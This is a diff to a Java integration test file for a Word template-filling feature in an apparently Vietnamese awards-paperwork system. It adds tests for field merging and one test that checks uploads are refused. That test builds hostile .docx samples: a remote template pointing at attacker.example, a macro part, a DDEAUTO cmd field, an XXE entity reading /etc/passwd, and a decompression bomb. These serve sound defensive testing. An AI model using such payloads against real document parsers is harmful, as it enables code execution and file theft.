@@ -15,6 +15,7 @@ import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import vn.thidua.IntegrationTest;
 import vn.thidua.Pages;
+import vn.thidua.typesetting.WordTemplate;
 
 @IntegrationTest
 class TemplateTests {
@@ -90,7 +91,108 @@ class TemplateTests {
                 .isEqualTo(409);
     }
 
-    private static byte[] template(String body) throws IOException {
+    @Test
+    void a_field_is_filled_in_header_and_footer_and_where_the_spelling_checker_cut_it() throws IOException {
+        byte[] template = template(
+                "<w:p><w:r><w:t>{{</w:t></w:r><w:proofErr w:type=\"spellStart\"/><w:r><w:rPr><w:b/></w:rPr><w:t>trich_yeu</w:t></w:r>"
+                        + "<w:proofErr w:type=\"spellEnd\"/><w:r><w:t>}} của {{co_quan}}</w:t></w:r></w:p>",
+                "word/header2.xml",
+                words("hdr", "<w:p><w:r><w:t>{{so_ky_hieu}}</w:t></w:r></w:p>"),
+                "word/footer1.xml",
+                words("ftr", "<w:p><w:r><w:t>{{ nguoi_ky }}</w:t></w:r></w:p>"));
+        var parts = parts(TemplateMerge.fill(template, Samples.proposal().issued(68, Samples.DAY), null));
+        assertThat(parts.get("word/document.xml"))
+                .contains("Đề nghị xét tặng danh hiệu", " của TRƯỜNG CHÍNH TRỊ TỈNH LAI CHÂU")
+                .doesNotContain("{{", "}}");
+        assertThat(parts.get("word/header2.xml")).contains("68-TTr/TCT");
+        assertThat(parts.get("word/footer1.xml")).contains("Nguyễn Hoàng Phương Thảo");
+    }
+
+    @Test
+    void content_controls_are_filled_by_their_tags_in_a_line_a_paragraph_and_a_row() throws IOException {
+        byte[] template = template("<w:p><w:r><w:t>Số </w:t></w:r>"
+                + control(
+                        "so_ky_hieu",
+                        "<w:r><w:rPr><w:rStyle w:val=\"PlaceholderText\"/></w:rPr><w:t>Bấm để nhập</w:t></w:r>")
+                + "</w:p>"
+                + control("can_cu", "<w:p><w:r><w:t>Căn cứ</w:t></w:r></w:p>")
+                + "<w:tbl><w:tr><w:tc><w:p>" + control("bang_1", "<w:r><w:t>1</w:t></w:r>")
+                + "</w:p></w:tc><w:tc><w:p>" + control("bang_2", "") + "</w:p></w:tc></w:tr></w:tbl>");
+        assertThat(WordTemplate.fieldsOf(template)).containsExactly("so_ky_hieu", "can_cu", "bang_1", "bang_2");
+        String xml = document(TemplateMerge.fill(template, Samples.decision(2).issued(9, Samples.DAY), null));
+        assertThat(xml)
+                .contains("09-QĐ/TCT", "Căn cứ Nghị định số 91/2017/NĐ-CP", "Xét đề nghị", "Nguyễn Thị Quỳnh Nga 2")
+                .doesNotContain("Bấm để nhập", "PlaceholderText", "showingPlcHdr", "dataBinding", "{{");
+    }
+
+    @Test
+    void a_row_over_all_columns_stays_one_cell() throws IOException {
+        byte[] template = template(
+                "<w:tbl><w:tr><w:tc><w:tcPr><w:tcW w:w=\"500\" w:type=\"dxa\"/></w:tcPr><w:p><w:r><w:t>{{bang_1}}</w:t></w:r></w:p></w:tc>"
+                        + "<w:tc><w:p><w:r><w:t>{{bang_2}}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>");
+        String xml = document(TemplateMerge.fill(template, Samples.proposal(), null));
+        assertThat(xml).contains("<w:gridSpan w:val=\"2\"/>", "Khoa Lý luận cơ sở", "Lò Thị Mai Anh", "Cộng");
+        assertThat(xml.split("<w:tc>", -1)).hasSize(1 + 1 + 2 + 1 + 2 + 2);
+    }
+
+    @Test
+    void fields_that_nobody_knows_and_fields_without_an_end_are_refused_in_a_sentence() throws IOException {
+        assertThat(refused(template("<w:p><w:r><w:t>{{trích yếu}} {{so_ky_hieu}}</w:t></w:r></w:p>")))
+                .contains("Không có trường: trích yếu");
+        assertThat(refused(template("<w:p>" + control("trich_yeux", "<w:r><w:t>x</w:t></w:r>") + "</w:p>")))
+                .contains("Không có trường: trich_yeux");
+        assertThat(refused(template("<w:p><w:r><w:t>{{co_quan}} số {{so_ky_hieu}</w:t></w:r></w:p>")))
+                .contains("không có đủ hai cặp ngoặc nhọn")
+                .contains("{{so_ky_hieu}");
+    }
+
+    @Test
+    void a_template_that_fetches_runs_or_hides_something_is_refused_in_a_sentence() throws IOException {
+        String field = "<w:p><w:r><w:t>{{trich_yeu}}</w:t></w:r></w:p>";
+        String relation =
+                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId9\" "
+                        + "TargetMode=\"External\" Target=\"https://attacker.example/x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
+        assertThat(refused(template(
+                        field, "word/_rels/settings.xml.rels", relation + "attachedTemplate\"/></Relationships>")))
+                .contains("có macro hoặc mã tự chạy");
+        assertThat(refused(template(field, "word/_rels/header1.xml.rels", relation + "image\"/></Relationships>")))
+                .contains("lấy nội dung từ nơi khác (https://attacker.example/x)");
+        assertThat(refused(template(field, "word/vbaProject.bin", "x"))).contains("có macro hoặc mã tự chạy");
+        assertThat(refused(template(field, "word/embeddings/oleObject1.xls", "x")))
+                .contains("có đối tượng nhúng");
+        assertThat(
+                        refused(
+                                template(
+                                        field
+                                                + "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>")))
+                .contains("DDEAUTO");
+        assertThat(refused(template(
+                        field,
+                        "word/header9.xml",
+                        "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + words("hdr", "<w:p>&x;</w:p>"))))
+                .contains("Không đọc được nội dung của tệp Word");
+        assertThat(refused(template(field, "word/media/bomb.xml", "0".repeat(60_000_000))))
+                .contains("phình quá lớn");
+    }
+
+    private String refused(byte[] template) {
+        var answer = pages.upload("thuky.sl", "/papers/templates", "file", "mẫu.docx", template, "kind", "TO_TRINH");
+        assertThat(answer.status()).isEqualTo(409);
+        return answer.text();
+    }
+
+    private static String control(String tag, String content) {
+        return "<w:sdt><w:sdtPr><w:tag w:val=\"" + tag
+                + "\"/><w:showingPlcHdr/><w:dataBinding w:xpath=\"/x\"/></w:sdtPr><w:sdtContent>" + content
+                + "</w:sdtContent></w:sdt>";
+    }
+
+    private static String words(String root, String body) {
+        return "<w:" + root + " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">" + body
+                + "</w:" + root + ">";
+    }
+
+    private static byte[] template(String body, String... more) throws IOException {
         var parts = new HashMap<String, String>();
         var out = new ByteArrayOutputStream();
         var made = new ByteArrayOutputStream();
@@ -100,6 +202,9 @@ class TemplateTests {
                 "word/document.xml",
                 "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>" + body
                         + "</w:body></w:document>");
+        for (int i = 0; i < more.length; i += 2) {
+            parts.put(more[i], more[i + 1]);
+        }
         try (var zip = new ZipOutputStream(out)) {
             for (var part : parts.entrySet()) {
                 zip.putNextEntry(new ZipEntry(part.getKey()));
